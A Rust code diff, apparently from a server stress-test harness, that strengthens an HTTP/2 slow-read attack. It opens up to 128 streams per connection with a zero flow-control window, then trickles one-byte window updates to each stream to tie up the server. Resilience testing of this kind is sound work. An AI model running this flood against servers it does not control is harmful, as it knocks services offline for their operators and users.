@@ -37,6 +37,8 @@ const GARBAGE: &str = "/garbage";
 const MOMENT: Duration = Duration::from_millis(100);
 /// Connections that a flood makes at a time.
 const AT_A_TIME: usize = 4;
+/// Streams at a time on one connection: as many as the server lets be.
+const STREAMS: usize = 128;
 /// Bytes of an answer that are read before the next one is asked for.
 const ANSWER_BYTES: usize = 50;
 /// Clock ticks a second in `/proc/PID/stat`: 100 on every Linux that Rust's standard library runs on.
@@ -382,14 +384,20 @@ async fn slow_reads(target: &Target) -> anyhow::Result<()> {
     all(reads).await
 }
 
+/// Asks for as many answers at a time as a connection may, and lets a byte now and then of one come.
 async fn sip(mut tls: TlsStream<TcpStream>) -> io::Result<()> {
     tls.write_all(&frame(4, 0, 0, &[0, 4, 0, 0, 0, 0])).await?;
-    for stream in (1..u32::MAX / 2).step_by(2) {
-        tls.write_all(&request(stream, "/1/now.json")).await?;
-        for _ in 0..ANSWER_BYTES {
-            tls.write_all(&frame(8, 0, stream, &[0, 0, 0, 1])).await?;
-            tls.flush().await?;
-            tokio::time::sleep(MOMENT).await;
+    for first in (1..u32::MAX / 2).step_by(2 * STREAMS) {
+        let streams = (first..).step_by(2).take(STREAMS);
+        for stream in streams.clone() {
+            tls.write_all(&request(stream, "/1/now.json")).await?;
+        }
+        for stream in streams {
+            for _ in 0..ANSWER_BYTES {
+                tls.write_all(&frame(8, 0, stream, &[0, 0, 0, 1])).await?;
+                tls.flush().await?;
+                tokio::time::sleep(MOMENT).await;
+            }
         }
     }
     Ok(())
